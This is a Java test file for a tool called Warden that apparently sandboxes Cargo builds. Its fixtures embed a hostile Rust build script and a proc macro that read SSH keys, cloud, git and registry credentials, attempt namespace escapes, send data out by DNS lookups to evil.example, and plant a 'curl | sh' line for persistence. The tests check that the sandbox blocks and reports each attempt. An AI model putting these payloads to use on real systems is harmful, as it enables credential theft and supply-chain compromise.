package dev.warden.limit;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.warden.cli.Main;
import dev.warden.core.Environment;
import dev.warden.expose.EventStore;
import dev.warden.testing.AttackCrates;
import dev.warden.testing.AttackProject;
import dev.warden.testing.CargoTool;
import dev.warden.testing.Fixtures;
import dev.warden.testing.ReportSchema;
import dev.warden.testing.TestEnv;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.ServerSocketChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A build script written from the red-team report, run by real cargo in the real sandbox (as root when the tests run
 * as root, which is how CI runs them): it tries the mount escape, reads the project's and the home's secrets by
 * absolute, relative and raw paths, connects to a unix socket, runs copies of itself named like the toolchain,
 * rewrites the event store, and writes to every persistence place. Each attempt must fail, be reported against
 * url-parse, and no real secret may show up anywhere outside the sandbox.
 */
class HostileBuildTest {

    /** Real secrets as the caller has them: in the environment, the home, the project, Cargo's configuration. */
    private static final Map<String, String> REAL = Map.of(
            "env", "wJalrXUtnFEMI-REAL-ENV-SECRET-K7MDENGbPx",
            "proxy", "pr0xyPassw0rdREAL",
            "aws-file", "AWSFILErealSECRETvalue0123456789abcdefgh",
            "git-credentials", "gitCredREALpassword99887766",
            "extraheader", "ghs_REALinstallationTOKEN0123456789abcd",
            "dotenv", "postgresREALpassword-4455",
            "cargo-credentials", "cioREALregistryTOKEN00112233445566",
            "cargo-config", "cioREALconfigTOKEN99887766554433");

    @TempDir
    Path dir;

    private static Path cargo;

    @BeforeAll
    static void tools() {
        cargo = SandboxedCargo.require();
    }

    /** Every form a secret leaves in: as it is, hex, base64. */
    private static List<String> forms(String secret) {
        byte[] bytes = secret.getBytes(StandardCharsets.UTF_8);
        return List.of(secret, HexFormat.of().formatHex(bytes).substring(0, 24),
                Base64.getEncoder().withoutPadding().encodeToString(bytes).substring(0, 20));
    }

    static String payload(String socket) {
        return """
                use std::io::Write;

                extern "C" {
                    fn syscall(number: i64, ...) -> i64;
                    fn signal(signum: i32, handler: usize) -> usize;
                }

                extern "C" fn carry_on(_: i32) {}

                fn hex(data: &[u8]) -> String {
                    data.iter().map(|b| format!("{:02x}", b)).collect()
                }

                fn leak(stage: &str, data: &str) {
                    let encoded = hex(data.as_bytes());
                    let label = &encoded[..encoded.len().min(60)];
                    let _ = std::net::ToSocketAddrs::to_socket_addrs(&format!("{}.{}.evil.example:80", label, stage));
                }

                fn read(path: &str) -> String {
                    std::fs::read_to_string(path).unwrap_or_default()
                }

                fn main() {
                    let home = std::env::var("HOME").unwrap();
                    if let Some(stage) = std::env::args().nth(1) {
                        // A copy of this script, renamed to pass for the toolchain.
                        leak(&stage, &std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default());
                        let _ = read(&format!("{}/.ssh/id_ed25519", home));
                        return;
                    }
                    let out = std::env::var("OUT_DIR").unwrap();
                    let target = std::env::var("CARGO_TARGET_DIR").unwrap();
                    let project = std::path::Path::new(&target).parent().unwrap().to_str().unwrap().to_string();
                    let cargo_home = std::env::var("CARGO_HOME").unwrap();
                    let rustup_home = std::env::var("RUSTUP_HOME").unwrap();
                    unsafe {
                        signal(31, carry_on as usize);
                        syscall(272, 0x20000i64);
                        let home_c = std::ffi::CString::new(home.clone()).unwrap();
                        syscall(166, home_c.as_ptr(), 2i64);
                        syscall(165, 0i64, b"/\\0".as_ptr(), 0i64, 4128i64, 0i64);
                    }
                    let mut loot = String::new();
                    for file in [format!("{}/.aws/credentials", home), format!("{}/.git-credentials", home),
                                 format!("{}/.git/config", project), format!("{}/.env", project),
                                 format!("{}/credentials.toml", cargo_home), format!("{}/config.toml", cargo_home)] {
                        loot.push_str(&read(&file));
                    }
                    std::env::set_current_dir(&home).unwrap();
                    loot.push_str(&read(".netrc"));
                    unsafe {
                        let mut buffer = [0u8; 4096];
                        let fd = syscall(2, b".git-credentials\\0".as_ptr(), 0i64);
                        if fd >= 0 {
                            syscall(0, fd, buffer.as_mut_ptr(), 4096i64);
                        }
                        let how = [0u64; 3];
                        syscall(437, -100i64, b"/proc/1/environ\\0".as_ptr(), how.as_ptr(), 24i64);
                    }
                    std::fs::write(format!("{}/loot", out), &loot).unwrap();
                    println!("cargo:warning=loot {}", loot.replace('\\n', " "));
                    if let Ok(mut stream) = std::os::unix::net::UnixStream::connect("SOCKET") {
                        let _ = stream.write_all(loot.as_bytes());
                    }
                    for place in [format!("{}/bin/cargo-evil", cargo_home), format!("{}/.bashrc", home),
                                  format!("{}/.git/hooks/pre-commit", project),
                                  format!("{}/registry/src/index.crates.io-0/serde-1.0.0/src/lib.rs", cargo_home),
                                  format!("{}/settings.toml", rustup_home), "/etc/profile.d/evil.sh".to_string()] {
                        if let Ok(mut file) = std::fs::OpenOptions::new().create(true).append(true).open(&place) {
                            let _ = file.write_all(b"curl -s https://evil.example/i | sh\\n");
                        }
                    }
                    let _ = std::fs::create_dir_all(format!("{}/warden", target));
                    let _ = std::fs::write(format!("{}/warden/events.db", target), b"clean history");
                    let me = std::env::current_exe().unwrap();
                    for name in ["cargo", "rustc", "build-script-x"] {
                        let copy = format!("{}/{}", out, name);
                        std::fs::copy(&me, &copy).unwrap();
                        let _ = std::process::Command::new(&copy).arg(name.replace('-', "")).status();
                    }
                    leak("loot", &loot);
                }
                """.replace("SOCKET", socket);
    }

    private Map<String, String> callerEnv(Path cargoHome) {
        Map<String, String> env = new HashMap<>();
        env.put("PATH", cargo.getParent() + ":/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin");
        Path realHome = Path.of(System.getProperty("user.home"));
        env.put("CARGO_HOME", cargoHome.toString());
        env.put("RUSTUP_HOME", System.getenv().getOrDefault("RUSTUP_HOME", realHome.resolve(".rustup").toString()));
        env.put("AWS_SECRET_ACCESS_KEY", REAL.get("env"));
        env.put("CARGO_HTTP_PROXY", "http://builder:" + REAL.get("proxy") + "@proxy.internal:3128");
        env.put("LANG", "C.UTF-8");
        return env;
    }

    /** The caller's environment with the machine's Cargo home, after locking {@code app}'s path dependencies. */
    private Map<String, String> lockedWithTheRealCargoHome(Path app) {
        Map<String, String> env = callerEnv(Path.of(System.getProperty("user.home"), ".cargo"));
        CargoTool.Result lock = CargoTool.run(cargo, app, Map.of("RUSTUP_HOME", env.get("RUSTUP_HOME")),
                "generate-lockfile", "--offline");
        assertThat(lock.status()).as(lock.output()).isZero();
        return env;
    }

    private void plantSecrets(Path app, Path cargoHome) {
        Path home = dir.resolve("home");
        Fixtures.write(home, ".aws/credentials", "[default]\naws_secret_access_key = " + REAL.get("aws-file") + "\n");
        Fixtures.write(home, ".git-credentials", "https://dev:" + REAL.get("git-credentials") + "@github.com\n");
        String basic = Base64.getEncoder().encodeToString(("x-access-token:" + REAL.get("extraheader"))
                .getBytes(StandardCharsets.UTF_8));
        Fixtures.write(app, ".git/config", "[core]\n\trepositoryformatversion = 0\n[http \"https://github.com/\"]\n"
                + "\textraheader = AUTHORIZATION: basic " + basic + "\n");
        Fixtures.write(app, ".git/hooks/README", "hooks\n");
        Fixtures.write(app, ".env", "DATABASE_PASSWORD=" + REAL.get("dotenv") + "\n");
        Fixtures.write(cargoHome, "credentials.toml", "[registry]\ntoken = \"" + REAL.get("cargo-credentials") + "\"\n");
        Fixtures.write(cargoHome, "config.toml", "[registries.internal]\nindex = \"sparse+https://r.example/\"\n"
                + "token = \"" + REAL.get("cargo-config") + "\"\n");
        Fixtures.write(cargoHome, "bin/README", "binaries\n");
    }

    @Test
    void everyEscapeFailsIsReportedAgainstTheCrateAndNoRealSecretLeaves() throws Exception {
        Path socket = Path.of("/var/tmp").resolve("warden-hostile-" + ProcessHandle.current().pid() + ".sock");
        Files.deleteIfExists(socket);
        Path app = AttackProject.write(dir, d -> AttackCrates.urlParse(d, payload(socket.toString())));
        Fixtures.write(app, "Cargo.lock", AttackProject.lockfile(true));
        Path cargoHome = dir.resolve("cargo-home");
        plantSecrets(app, cargoHome);
        Map<String, String> env = callerEnv(cargoHome);
        AtomicInteger connections = new AtomicInteger();
        List<String> received = new ArrayList<>();
        try (ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
            server.bind(UnixDomainSocketAddress.of(socket));
            Thread listener = Thread.ofVirtual().start(() -> accept(server, connections, received));
            StringWriter out = new StringWriter();
            StringWriter err = new StringWriter();
            Environment environment = TestEnv.at(app, dir.resolve("home"), env);
            int status = Main.run(new String[] {"build", "--format", "json", "--", "cargo", "build", "--locked"},
                    new PrintWriter(out), new PrintWriter(err), environment);
            listener.interrupt();
            JsonNode report = new ObjectMapper().readTree(out.toString());
            assertThat(status).as(err.toString()).isEqualTo(Main.EXIT_FINDINGS);

            List<String> ids = new ArrayList<>();
            report.path("findings").forEach(f -> ids.add(f.path("id").asText() + ":" + f.path("crate").asText()
                    + ":" + f.path("severity").asText()));
            // The escape comes first (high); the secrets it then goes for make what follows critical.
            assertThat(ids).contains("privileged-syscall:url-parse:high", "unix-socket-connect:url-parse:critical")
                    .anyMatch(id -> id.startsWith("secret-file-access:url-parse:"))
                    .anyMatch(id -> id.startsWith("persistence-attempt:url-parse:"))
                    .anyMatch(id -> id.startsWith("environ-read:url-parse:"))
                    .anyMatch(id -> id.startsWith("dns-exfiltration:url-parse:critical"))
                    .noneMatch(id -> id.contains(":null:") && !id.startsWith("monitor"));
            String events = report.path("events").toString();
            for (String call : List.of("\"unshare\"", "\"umount2\"", "\"mount\"")) {
                assertThat(events).as(call).contains(call);
            }
            List<String> persisted = new ArrayList<>();
            List<String> opened = new ArrayList<>();
            List<String> exfiltrated = new ArrayList<>();
            report.path("events").forEach(e -> {
                if (!e.path("kind").asText().equals("exec")) {
                    assertThat(e.path("crate").asText()).as(e.toString()).isEqualTo("url-parse");
                }
                switch (e.path("kind").asText()) {
                    case "persistence" -> persisted.add(e.path("target").asText());
                    case "file" -> opened.add(e.path("target").asText());
                    case "dns" -> exfiltrated.add(e.path("target").asText());
                    default -> { }
                }
            });
            assertThat(persisted).contains(cargoHome.resolve("bin/cargo-evil").toString(),
                    dir.resolve("home/.bashrc").toString(), app.resolve(".git/hooks/pre-commit").toString(),
                    "/etc/profile.d/evil.sh");
            assertThat(opened).as("relative and raw opens are resolved").contains(
                    dir.resolve("home/.netrc").toString(), dir.resolve("home/.git-credentials").toString(),
                    app.resolve(".env").toString(), "/proc/1/environ");
            // The renamed copies stayed url-parse's build script, and sent only decoys.
            assertThat(exfiltrated).anyMatch(n -> n.contains(".cargo.evil.example"))
                    .anyMatch(n -> n.contains(".rustc.evil.example"))
                    .anyMatch(n -> n.contains(".buildscriptx.evil.example"));

            assertThat(connections.get()).as("the socket was out of reach").isZero();
            assertThat(Files.readString(app.resolve(".git/hooks/README"))).isEqualTo("hooks\n");
            assertThat(cargoHome.resolve("bin/cargo-evil")).doesNotExist();
            assertThat(Path.of("/etc/profile.d/evil.sh")).doesNotExist();

            // Nothing real anywhere outside: the target directory, the build output, the report, the store.
            Path store = EventStore.defaultFile(environment, app);
            List<String> outside = new ArrayList<>(List.of(out.toString(), err.toString(),
                    new String(Files.readAllBytes(store), StandardCharsets.ISO_8859_1), String.join("", received)));
            try (var walk = Files.walk(app.resolve("target"))) {
                for (Path file : walk.filter(Files::isRegularFile).toList()) {
                    outside.add(new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1));
                }
            }
            for (Map.Entry<String, String> secret : REAL.entrySet()) {
                for (String form : forms(secret.getValue())) {
                    assertThat(outside).as(secret.getKey() + " as " + form).noneMatch(text -> text.contains(form));
                }
            }
            assertThat(Files.readString(app.resolve("target/warden/events.db"))).isEqualTo("clean history");
            Run logged = warden(env, app, "events", "--format", "json");
            assertThat(logged.out()).as("the store is Warden's, not the build's").contains("privileged");
        } finally {
            Files.deleteIfExists(socket);
        }
    }

    /** The payload in a proc macro that adds a #[test] to the crate deriving from it: run by `cargo test`. */
    @Test
    void codeAProcMacroInjectsIntoATestIsTheTestBinarysAndNamesTheMacro() throws Exception {
        Path app = dir.resolve("tested");
        Fixtures.write(app, "Cargo.toml", "[package]\nname = \"tested\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n"
                + "[dependencies]\nhelper-derive = { path = \"../helper-derive\" }\n");
        Fixtures.write(app, "src/lib.rs", "#[derive(helper_derive::Helper)]\npub struct Config;\n");
        Path macro = dir.resolve("helper-derive");
        Fixtures.write(macro, "Cargo.toml", "[package]\nname = \"helper-derive\"\nversion = \"0.1.0\"\n"
                + "edition = \"2021\"\n\n[lib]\nproc-macro = true\n");
        Fixtures.write(macro, "src/lib.rs", """
                use proc_macro::TokenStream;

                #[proc_macro_derive(Helper)]
                pub fn derive(_: TokenStream) -> TokenStream {
                    r#"
                    #[test]
                    fn helper_is_well_formed() {
                        let home = std::env::var("HOME").unwrap();
                        let key = std::fs::read_to_string(format!("{}/.ssh/id_ed25519", home)).unwrap_or_default();
                        let line = key.lines().nth(1).unwrap_or("");
                        let hex: String = line.bytes().map(|b| format!("{:02x}", b)).collect();
                        let _ = std::net::ToSocketAddrs::to_socket_addrs(
                            &format!("{}.{}.t.evil.example:80", &hex[..hex.len().min(60)], &hex[hex.len().min(60)..]));
                    }
                    "#.parse().unwrap()
                }
                """);
        Map<String, String> env = lockedWithTheRealCargoHome(app);
        Run run = warden(env, app, "build", "--format", "json", "--", "cargo", "test", "--locked", "--offline");
        assertThat(run.status()).as(run.err()).isEqualTo(Main.EXIT_FINDINGS);
        JsonNode report = new ObjectMapper().readTree(run.out());
        ReportSchema.assertValid(report);
        JsonNode leak = null;
        for (JsonNode finding : report.path("findings")) {
            if (finding.path("id").asText().equals("dns-exfiltration")) {
                leak = finding;
            }
        }
        assertThat(leak).as(report.path("findings").toString()).isNotNull();
        assertThat(leak.path("crate").asText()).isEqualTo("tested");
        assertThat(leak.path("role").asText()).isEqualTo("test binary");
        assertThat(leak.path("secrets").asText()).isEqualTo("~/.ssh/id_ed25519");
        assertThat(leak.path("message").asText()).contains("tested test binary", "built with proc macro helper-derive");
    }

    /** Killing the tracer while a build script runs: the build is killed too and reported unmonitored. */
    @Test
    void aBuildWhoseTracerDiesIsUnmonitoredNeverClean() throws Exception {
        Path app = AttackProject.write(dir, d -> AttackCrates.urlParse(d, """
                fn main() {
                    for _ in 0..600 {
                        std::thread::sleep(std::time::Duration::from_millis(100));
                    }
                }
                """));
        Fixtures.write(app, "Cargo.lock", AttackProject.lockfile(true));
        Thread killer = Thread.ofPlatform().daemon().start(() -> {
            long deadline = System.nanoTime() + 120_000_000_000L;
            while (System.nanoTime() < deadline) {
                boolean scriptRuns = ProcessHandle.current().descendants().anyMatch(p ->
                        p.info().command().orElse("").endsWith("build-script-build"));
                if (scriptRuns) {
                    ProcessHandle.current().descendants()
                            .filter(p -> p.info().command().orElse("").endsWith("/strace"))
                            .forEach(ProcessHandle::destroyForcibly);
                    return;
                }
                try {
                    Thread.sleep(50);
                } catch (InterruptedException e) {
                    return;
                }
            }
        });
        long started = System.nanoTime();
        Run run = warden(callerEnv(Path.of(System.getProperty("user.home"), ".cargo")), app, "build", "--format",
                "json", "--", "cargo", "build", "--locked");
        killer.join();
        assertThat(run.status()).as(run.out() + run.err()).isEqualTo(Main.EXIT_ERROR);
        assertThat(run.err()).contains("unmonitored: the tracer stopped before the build ended")
                .doesNotContain("Exception");
        assertThat(new ObjectMapper().readTree(run.out()).path("findings").toString()).contains("build-unmonitored");
        assertThat(System.nanoTime() - started).as("the build did not run on to its end").isLessThan(55_000_000_000L);
        assertThat(ProcessHandle.allProcesses().map(p -> p.info().command().orElse(""))
                .filter(c -> c.endsWith("build-script-build"))).isEmpty();
    }

    /** Real crates from Debian (serde with derive, serde_json, regex, libc, syn): built as before, no alert. */
    @Test
    void aBenignBuildOfRealCratesIsUnchangedAndQuiet() throws Exception {
        Path registry = Path.of("/usr/share/cargo/registry");
        Assumptions.assumeTrue(Files.isDirectory(registry.resolve("serde-1.0.152"))
                && Files.isDirectory(registry.resolve("syn-1.0.107")), "Debian's crate sources are not installed");
        Path app = dir.resolve("benign");
        Fixtures.write(app, "Cargo.toml", """
                [package]
                name = "benign"
                version = "0.1.0"
                edition = "2021"

                [dependencies]
                serde = { version = "1", features = ["derive"] }
                serde_json = "1"
                regex = "1"
                libc = "0.2"
                syn = { version = "1", features = ["full"] }
                """);
        Fixtures.write(app, "src/main.rs", """
                #[derive(serde::Serialize, serde::Deserialize, Debug)]
                struct Point { name: String, n: u32 }
                fn main() {
                    let p: Point = serde_json::from_str(r#"{"name":"x","n":3}"#).unwrap();
                    let parsed = syn::parse_str::<syn::Expr>("1 + 2").is_ok();
                    println!("{:?} {} {} {}", p, regex::Regex::new(r"\\d+").unwrap().is_match("a1"),
                        unsafe { libc::getpid() } > 0, parsed);
                }
                """);
        Fixtures.write(app, ".cargo/config.toml", "[source.crates-io]\nreplace-with = \"debian\"\n"
                + "[source.debian]\ndirectory = \"/usr/share/cargo/registry\"\n");
        Map<String, String> env = lockedWithTheRealCargoHome(app);
        Run run = warden(env, app, "build", "--format", "json", "--", "cargo", "build", "--locked", "--offline");
        assertThat(run.status()).as(run.out()).isEqualTo(Main.EXIT_OK);
        JsonNode report = new ObjectMapper().readTree(run.out());
        ReportSchema.assertValid(report);
        assertThat(report.path("findings")).as(report.path("findings").toString()).isEmpty();
        assertThat(report.path("metrics").path("syscalls").asInt()).isPositive();
        Process binary = new ProcessBuilder(app.resolve("target/debug/benign").toString()).redirectErrorStream(true)
                .start();
        assertThat(new String(binary.getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip())
                .isEqualTo("Point { name: \"x\", n: 3 } true true true");
    }

    private static void accept(ServerSocketChannel server, AtomicInteger connections, List<String> received) {
        try {
            while (true) {
                try (SocketChannel client = server.accept()) {
                    connections.incrementAndGet();
                    ByteBuffer buffer = ByteBuffer.allocate(1 << 16);
                    while (client.read(buffer) > 0) {
                        buffer.flip();
                        received.add(StandardCharsets.ISO_8859_1.decode(buffer).toString());
                        buffer.clear();
                    }
                }
            }
        } catch (IOException e) {
            // closed at the end of the test
        }
    }

    record Run(int status, String out, String err) {
    }

    private Run warden(Map<String, String> env, Path workdir, String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int status = Main.run(args, new PrintWriter(out), new PrintWriter(err),
                TestEnv.at(workdir, dir.resolve("home"), env));
        return new Run(status, out.toString(), err.toString());
    }
}
